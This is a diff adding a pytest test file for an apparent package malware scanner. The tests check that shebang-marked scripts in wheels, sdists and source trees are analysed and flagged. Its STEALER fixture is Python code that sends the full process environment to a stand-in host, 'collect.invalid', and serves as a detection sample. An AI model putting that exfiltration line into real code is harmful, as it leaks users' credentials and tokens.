@@ -1,0 +1,92 @@
+"""Files that run and are no ``.py``: each kind with a stealer that is found, and an honest twin that is not flagged."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from scanner.code.analysis import RUNS, Analysis
+from scanner.code.artifacts import Job, analyse_archive, analyse_job
+from scanner.code.kinds import interpreter
+from scanner.model.finding import PackageRef
+from tests.support.builders import sdist, wheel
+
+STEALER = (
+    "import os, urllib.request\n"
+    'urllib.request.urlopen("https://collect.invalid/", data=repr(dict(os.environ)).encode())\n'
+)
+HONEST = "import sys\n\n\ndef main():\n    print(len(sys.argv))\n\n\nmain()\n"
+PACKAGE = PackageRef("example", "1.0")
+Files = Mapping[str, bytes | str]
+
+
+def of_wheel(files: Files) -> Analysis:
+    name, body = wheel("example", files={"example/__init__.py": "", **files})
+    return analyse_archive(body, name, PACKAGE)
+
+
+def of_sdist(files: Files) -> Analysis:
+    name, body = sdist("example", files={"setup.py": "from setuptools import setup\nsetup()\n", **files})
+    return analyse_archive(body, name, PACKAGE)
+
+
+def of_tree(root: Path, files: Files) -> Analysis:
+    for path, text in files.items():
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).write_bytes(text.encode() if isinstance(text, str) else text)
+    return analyse_job(Job(str(root), "", PACKAGE))
+
+
+def places(analysis: Analysis) -> set[tuple[str, int]]:
+    return {(one.location.path, one.location.line) for found in analysis.findings for one in found.evidence}
+
+
+SHEBANGS = ["#!python\n", "#!/usr/bin/env python3\n", "#!/usr/bin/env -S python3.12 -u\n", "#!/opt/x/bin/pypy3 -s\n"]
+
+
+@pytest.mark.parametrize("first", SHEBANGS)
+def test_a_script_of_a_wheel_is_read_by_its_first_line(first: str) -> None:
+    path = "example-1.0.data/scripts/example-tool"
+    found = of_wheel({path: first + STEALER})
+    assert found.verdict == "malicious"
+    assert (path, 3) in places(found)
+    assert {one.trigger for one in found.findings} == {"entry-point"}
+    assert of_wheel({path: first + HONEST}).verdict == "clean"
+
+
+@pytest.mark.parametrize("path", ["tool", "tools/run", "run.cgi", "x.PY", ".git/hooks/post-checkout"])
+def test_a_script_of_a_tree_is_read_whatever_its_name(tmp_path: Path, path: str) -> None:
+    found = of_tree(tmp_path, {path: "#!/usr/bin/python3\n" + STEALER})
+    assert found.verdict == "malicious"
+    assert (path, 3) in places(found)
+    assert of_tree(tmp_path, {path: "#!/usr/bin/python3\n" + HONEST}).verdict == "clean"
+
+
+def test_a_script_of_an_sdist_is_read() -> None:
+    assert of_sdist({"bin/tool": "#!python\n" + STEALER}).verdict == "malicious"
+    assert of_sdist({"bin/tool": "#!python\n" + HONEST}).verdict == "clean"
+
+
+@pytest.mark.parametrize(
+    ("line", "program"),
+    [
+        (b"#!python", "python"),
+        (b"#! /usr/bin/env python", "python"),
+        (b"#!/usr/bin/env -S PYTHONPATH=x python3.13t -I", "python"),
+        (b"#!pythonw.exe", "python"),
+        (b"#!/bin/sh -e", "sh"),
+        (b"#!/usr/bin/env node", "node"),
+        (b"python", ""),
+        (b"", ""),
+        (b"#!", ""),
+    ],
+)
+def test_the_interpreter_of_a_first_line(line: bytes, program: str) -> None:
+    assert interpreter(line + b"\n") == program
+
+
+def runs_unread(analysis: Analysis) -> set[str]:
+    """What of it runs by itself and was not read whole."""
+    return {one.path for one in analysis.gaps if one.trigger in RUNS}
